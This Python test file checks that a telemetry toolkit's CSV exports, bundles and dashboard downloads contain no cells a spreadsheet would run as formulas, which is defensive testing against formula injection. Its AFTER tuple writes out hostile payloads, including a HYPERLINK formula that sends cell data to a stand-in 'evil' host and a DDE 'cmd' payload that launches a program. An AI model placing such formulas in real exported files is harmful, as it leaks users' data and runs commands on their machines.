"""Cells that a spreadsheet would run, in every table that we make."""

from __future__ import annotations

import csv
import io
import zipfile

import numpy as np

from dashboard.data import export
from tests.lengths import is_long
from toolkit.cli.main import main
from toolkit.runfolder.csv_table import SHORT
from toolkit.runfolder.repair import build_table
from toolkit.telemetry import TelemetryLogger

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
AFTER = ('HYPERLINK("http://evil/?"&A1)', '"\n=2', "cmd|' /C calc'!A0", "1+1", ";=3", ",=4")
FORMULAS = tuple(
    f"{before}{trigger}{after}"
    for trigger in TRIGGERS
    for before in ("", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00", "\x1b")
    for after in (AFTER if is_long() else AFTER[:2])
)


def runs_in_a_spreadsheet(cell):
    """Return whether a spreadsheet would treat `cell` as a formula: it skips blanks and invisible characters."""
    text = cell.lstrip(" \u00a0\u3000\ufeff\u200b\x00\x1b")
    is_number = text.replace(".", "").replace("e", "").replace("-", "").replace("+", "").isdigit()
    return text[:1] in TRIGGERS and text != "-inf" and not is_number


def cells_of(text):
    # Whatever separator a country's spreadsheet takes, a cell begins behind it; one in quotes is one cell to all.
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, record_property):
    """The mirror as it grows, built again, in a bundle, and what the pages give to download."""
    metrics = {f"{formula}{number}": 1.5 for number, formula in enumerate(FORMULAS)}
    with TelemetryLogger("r", log_dir=tmp_path / "logs", system=False, log_every=1, csv="all") as log:
        for step, formula in enumerate(FORMULAS):
            log.log_event("note", text=formula, other=[formula])
            name = f"{formula}{step}"
            log.log_step(step, {name: 1.5, "text": formula})
        log.log_start(config={formula: formula for formula in FORMULAS[:20]})
    tables = {"mirror": (log.run_folder / "metrics.csv").read_text("utf-8")}
    build_table(log.run_folder / "metrics.jsonl", tmp_path / "again.csv")
    tables["built again"] = (tmp_path / "again.csv").read_text("utf-8")
    build_table(log.run_folder / "metrics.jsonl", tmp_path / "short.csv", form=SHORT)
    tables["short"] = (tmp_path / "short.csv").read_text("utf-8")
    assert main(["share", str(log.run_folder), "-o", str(tmp_path / "b.zip")]) == 0
    with zipfile.ZipFile(tmp_path / "b.zip") as archive:
        (name,) = [name for name in archive.namelist() if name.endswith("metrics.csv")]
        tables["bundle"] = archive.read(name).decode("utf-8")
    columns = {name: np.array([1.5, -2.5, -np.inf]) for name in metrics}
    tables["download"] = export.to_csv(columns).decode("utf-8")
    found = {
        where: [cell for cell in cells_of(text) if runs_in_a_spreadsheet(cell)]
        for where, text in tables.items()
    }

    assert found == {name: [] for name in tables}
    assert "-2.5" in tables["download"], "a number stays one"
    count = sum(len(cells_of(text)) for text in tables.values())
    record_property(
        "measured", f"{count:,} cells of {len(FORMULAS)} formulas in {len(tables)} tables, 0 would run"
    )
